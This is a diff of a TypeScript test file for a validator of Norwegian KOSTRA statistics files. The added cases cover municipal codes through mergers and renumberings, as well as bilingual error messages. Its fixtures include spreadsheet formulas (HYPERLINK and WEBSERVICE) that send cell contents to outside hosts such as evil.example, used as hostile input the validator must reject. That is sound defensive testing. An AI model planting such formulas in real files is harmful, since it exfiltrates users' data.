@@ -46,6 +46,23 @@ describe("observations file: valid files", () => {
   });
 });
 
+describe("observations file: codes of merged, renumbered and re-established municipalities and of aggregates", () => {
+  it.each([
+    ["Bærum under each of its codes", "baerum", [[2019, "0219"], [2020, "3024"], [2023, "3024"], [2024, "3201"]]],
+    ["Haram before Ålesund and after it was re-established", "haram", [[2019, "1534"], [2024, "1580"]]],
+    ["Ålesund while Haram was part of it", "alesund", [[2021, "1507"]]],
+    ["KOSTRA group 7 in both groupings", "ekg07", [[2017, "EKG07"], [2022, "EKG07"]]],
+    ["Landet and Landet uten Oslo", "eakuo", [[2015, "EAKUO"], [2024, "EAKUO"]]],
+  ] as [string, string, [number, string][]][])("reads %s", (_, municipality, years) => {
+    const f = validFile();
+    // The valid file has figures for 2021 only (and none for Bærum, Haram or Ålesund); these are the added ones.
+    const ADDED = 0.25;
+    for (const [year, code] of years) f.observations.push({ indicator: "kunstformidling", municipality, year, code, value: ADDED, provenance: 0 });
+    const r = read(f);
+    expect(r.dataset.observations.filter((o) => o.value === ADDED).map((o) => [o.municipality, o.year, o.code])).toEqual(years.map(([y, c]) => [municipality, y, c]));
+  });
+});
+
 describe("observations file: hostile or damaged files are refused with one line naming file and field", () => {
   const HYPERLINK = { formula: 'HYPERLINK("http://evil.example/?"&A2,"klikk")' };
   const WEBSERVICE = { formula: 'WEBSERVICE("http://x/?"&A2)' };
@@ -71,7 +88,25 @@ describe("observations file: hostile or damaged files are refused with one line 
     ["an empty code", (f) => (f.observations[1].code = ""), /«observations\[1\]\.code» er tom/, /is empty/],
     ["a code with a forbidden character", (f) => (f.observations[1].code = "1119\uFFFF"), /«observations\[1\]\.code» inneholder tegn som ikke er tillatt/, /holds characters that are not allowed/],
     ["a missing field", (f) => delete f.observations[1].code, /«observations\[1\]\.code» mangler/, /"observations\[1\]\.code" is missing/],
-    ["a code not valid in the year", (f) => (f.observations[0].code = "0219"), /«observations\[0\]\.code»: kommunenummer «0219» gjelder ikke for 2021/, /code "0219" is not valid in 2021/],
+    ["a code not valid in the year", (f) => (f.observations[0].code = "0219"), /^kostra\.json: «observations\[0\]\.code»: koden «0219» gjelder ikke Hå i 2021 \(Hå hadde 1119\)\.$/, /^kostra\.json: "observations\[0\]\.code": code "0219" is not Hå's in 2021 \(Hå had 1119\)\.$/],
+    ["another municipality's code (Oslo's 0301 for Hå)", (f) => (f.observations[0].code = "0301"), /«observations\[0\]\.code»: koden «0301» gjelder ikke Hå i 2021 \(Hå hadde 1119\)/, /code "0301" is not Hå's in 2021 \(Hå had 1119\)/],
+    ["a group's code for a municipality", (f) => (f.observations[0].code = "EKG07"), /«observations\[0\]\.code»: koden «EKG07» gjelder ikke Hå i 2021/, /code "EKG07" is not Hå's in 2021/],
+    ["a municipality's code for a group", (f) => (f.observations.find((o: Json) => o.municipality === "ekg07").code = "1119"), /koden «1119» gjelder ikke KOSTRA-gruppe 7 i 2021 \(KOSTRA-gruppe 7 hadde EKG07\)/, /code "1119" is not KOSTRA group 7's in 2021 \(KOSTRA group 7 had EKG07\)/],
+    ["Landet uten Oslo's code for Landet", (f) => (f.observations.find((o: Json) => o.municipality === "eak").code = "EAKUO"), /koden «EAKUO» gjelder ikke Landet i 2021 \(Landet hadde EAK\)/, /code "EAKUO" is not Norway's in 2021 \(Norway had EAK\)/],
+    [
+      "Ålesund's code for Haram while it was part of Ålesund",
+      (f) => f.observations.push({ indicator: "kunstformidling", municipality: "haram", year: 2021, code: "1507", value: 1, provenance: 0 }),
+      /koden «1507» gjelder ikke Haram i 2021 \(Haram hadde ingen egen kode i 2021; den var en del av Ålesund\)/,
+      /code "1507" is not Haram's in 2021 \(Haram had no code of its own in 2021; it was part of Ålesund\)/,
+    ],
+    [
+      "a merged-away municipality's old code after the merger (Hof 0714 in 2021)",
+      (f) => f.observations.push({ indicator: "kunstformidling", municipality: "hof", year: 2021, code: "0714", value: 1, provenance: 0 }),
+      /koden «0714» gjelder ikke Hof i 2021 \(Hof hadde ingen egen kode i 2021; den var blitt en del av Holmestrand\)/,
+      /code "0714" is not Hof's in 2021 \(Hof had no code of its own in 2021; it had become part of Holmestrand\)/,
+    ],
+    ["a group that did not exist in the year (KOSTRA group 17 in 2017)", (f) => f.observations.push({ indicator: "kunstformidling", municipality: "ekg17", year: 2017, code: "EKG17", value: 1, provenance: 0 }), /koden «EKG17» gjelder ikke KOSTRA-gruppe 17 i 2017 \(KOSTRA-gruppe 17 hadde ingen egen kode i 2017; den fantes ikke ennå\)/, /code "EKG17" is not KOSTRA group 17's in 2017 \(KOSTRA group 17 had no code of its own in 2017; it did not exist yet\)/],
+    ["two groupings for one year", (f) => f.kostraGroups.push({ year: 2021, source: "SSB Klass", groups: { time: "ekg07" } }), /^kostra\.json: «kostraGroups\[1\]\.year»: 2021 står også i «kostraGroups\[0\]»; en fil har én KOSTRA-gruppering per år\.$/, /^kostra\.json: "kostraGroups\[1\]\.year": 2021 is also in "kostraGroups\[0\]"; a file has one KOSTRA grouping per year\.$/],
     ["a reference to no provenance entry", (f) => (f.observations[1].provenance = 7), /«observations\[1\]\.provenance»: viser til kilde nr\. 7, som ikke finnes/, /refers to source 7, which does not exist/],
     ["an unknown version", (f) => (f.version = 2), /«version» ugyldig verdi 2; forventet 1/, /invalid value 2; expected 1/],
     ["a KOSTRA group year as a formula object", (f) => (f.kostraGroups[0].year = HYPERLINK), /«kostraGroups\[0\]\.year» forventet et tall/, /expected a number/],
